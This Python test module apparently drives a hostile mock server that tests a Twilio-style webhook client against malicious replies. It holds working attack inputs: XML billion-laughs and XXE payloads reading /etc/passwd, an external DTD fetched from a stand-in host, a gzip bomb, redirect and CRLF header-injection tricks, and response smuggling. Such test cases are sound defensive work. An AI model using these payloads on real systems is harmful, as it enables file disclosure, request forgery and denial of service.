"""Cases of the hostile app (cases.py) in which HTTP is sound, and what it carries is not."""

import gzip
import random
import time

from cases import CASES, HEAD, LENGTH, SOUND, case, twiml

XML_LIMIT = 65_536  # bytes of a document that Twilio reads


def message(text):
    return f"<Response><Message>{text}</Message></Response>"


# --- TwiML bombs

LAUGHS = "<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
twiml("xml-billion-laughs", f"<!DOCTYPE Response [{LAUGHS}]>" + message("&a9;"))
twiml("xml-quadratic-blow-up",
      f"<!DOCTYPE Response [<!ENTITY a '{'a' * 30_000}'>]>" + message("&a;" * 10_000))
twiml("xml-external-entity",
      "<!DOCTYPE Response [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + message("&a;"))
twiml("xml-external-subset", "<!DOCTYPE Response SYSTEM 'http://192.0.2.1/evil.dtd'>" + message("ok"))
twiml("xml-parameter-entity",
      "<!DOCTYPE Response [<!ENTITY % a SYSTEM 'http://192.0.2.1/evil'> %a;]>" + message("ok"))
twiml("xml-depth-100000", lambda: "<Response>" + "<a>" * 100_000 + "</a>" * 100_000 + "</Response>")
twiml("xml-depth-9000", "<Response>" + "<a>" * 9000 + "</a>" * 9000 + "</Response>")
twiml("xml-million-nodes", lambda: "<Response>" + "<a/>" * 1_000_000 + "</Response>")
twiml("xml-16000-nodes", "<Response>" + "<a/>" * 16_000 + "</Response>")
twiml("xml-5000-messages", "<Response>" + "<Sms>a</Sms>" * 5_000 + "</Response>")
twiml("xml-million-attributes",
      lambda: "<Response" + " a=''" * 1_000_000 + "/>")
twiml("xml-7000-attributes", "<Response " + " ".join(f"a{n}=''" for n in range(7000)) + "/>")
twiml("xml-unclosed", "<Response>" + "<a " * 20_000)
twiml("xml-utf-16", message("ok").encode("utf-16"))
twiml("xml-utf-7", "<?xml version='1.0' encoding='utf-7'?>+ADw-Response/+AD4-")
twiml("xml-text-of-60000", message("a" * 60_000))
twiml("error-page-of-wide-characters", "\u20ac" * 1000, status="500 Oops", kind="text/plain")
twiml("text-of-a-megabyte", "a" * 1_000_000, kind="text/plain")

# --- an encoding that was not asked for

# A member of 10 MB of blanks takes 10 kB, and members may follow each other (RFC 1952).
def bomb():
    return gzip.compress(b" " * 10_000_000) * 6


twiml("gzip", gzip.compress(SOUND), "Content-Encoding: gzip")
twiml("gzip-bomb", bomb, "Content-Encoding: gzip")
twiml("unknown-content-encoding", SOUND, "Content-Encoding: br")

# --- redirects

PLACES = {
    "other-host": "http://192.0.2.1/sms", "other-name": "http://twilio.example/sms",
    "user-trick": "http://127.0.0.1:1@192.0.2.1/", "same-scheme-other-host": "//192.0.2.1/sms",
    "file": "file:///etc/passwd", "javascript": "javascript:alert(1)",
    "data": "data:text/xml,<Response/>", "ftp": "ftp://127.0.0.1/", "no-host": "http://",
    "closed-port": "http://127.0.0.1:1/", "port-0": "http://127.0.0.1:0/",
    "header-in-url": "/sms%0d%0aCookie: a=1",
}
for name, url in PLACES.items():
    escaped = url.replace("<", "&lt;")
    twiml("http-redirect-" + name, "", "Location: " + url, status="302 Found")
    twiml("twiml-redirect-" + name, f"<Response><Redirect>{escaped}</Redirect></Response>")
CASES["http-redirect-to-itself"] = lambda exchange: exchange.answer(
    "", "Location: " + exchange.path, status="307 Temporary Redirect")
CASES["twiml-redirect-to-itself"] = lambda exchange: exchange.answer(
    f"<Response><Redirect>{exchange.path}</Redirect></Response>")
CASES["http-redirect-that-grows"] = lambda exchange: exchange.answer(
    "", "Location: " + "a" * 60_000 + exchange.path, status="307 Temporary Redirect")


@case
def redirects_in_turn(exchange):
    """By HTTP and by TwiML in turn, so that there are never many of one kind in a row."""
    if exchange.query:
        return exchange.answer(f"<Response><Redirect>{exchange.path}</Redirect></Response>")
    return exchange.answer("", f"Location: {exchange.path}?again", status="307 Temporary Redirect")


# --- answers for someone else, on a connection that several requests share

@case
def second_answer(exchange):
    """An answer that nobody asked for comes with the one that was asked for."""
    unasked = HEAD + b"Set-Cookie: count=66\r\n" + LENGTH.replace(b"%d" % len(SOUND), b"60")
    exchange.answer_soundly()
    exchange.send(unasked + message("unasked for").encode().ljust(60))


@case
def second_answer_later(exchange):
    """The same, once the first has been read."""
    exchange.answer_soundly()
    time.sleep(0.02)
    exchange.send(HEAD + LENGTH + SOUND)


@case
def bytes_after_the_answer(exchange):
    exchange.answer_soundly()
    exchange.send(b"\r\n\r\nHTTP/1.1 200")


@case
def late_answer(exchange):
    """Answers after the sender has given up, on a connection that stays open."""
    exchange.answer_late("too late", 1.5)


@case
def late_at_first(exchange):
    """The first attempt is answered late, a retry at once."""
    if exchange.attempt == 1:
        return exchange.answer_late("too late", 2)
    return exchange.answer(message("in time"))


# --- too busy

RETRY_AFTER = {
    "1": "0", "huge": "99999999999999999999", "hours": "86400", "negative": "-5",
    "date": "Fri, 31 Dec 2099 23:59:59 GMT", "garbage": "soon \x7e", "empty": "", "fraction": "0.5",
}
for name, value in RETRY_AFTER.items():
    for status in "429 Too Many Requests", "503 Service Unavailable":
        twiml(f"busy-{status[:3]}-{name}", "", "Retry-After: " + value, status=status)
twiml("busy-429-never-said", "", status="429 Too Many Requests")

# --- always another answer

chance = random.Random(1)


@case
def padding_that_varies(exchange):
    """The reply is sound and the same; nearly 64 kB around it never are."""
    padding = "".join(chance.choices("abcdefgh", k=60_000))
    exchange.answer(f"<!--{padding}-->" + message("ok"), "Set-Cookie: count=1")


@case
def cookies_that_vary(exchange):
    """Each answer has other cookies, each of which is to be warned of."""
    names = [f"c{chance.randrange(10**9)}" for _ in range(100)]
    exchange.answer(message("ok"), *[f"Set-Cookie: {name}=1; Domain=x{name}" for name in names])
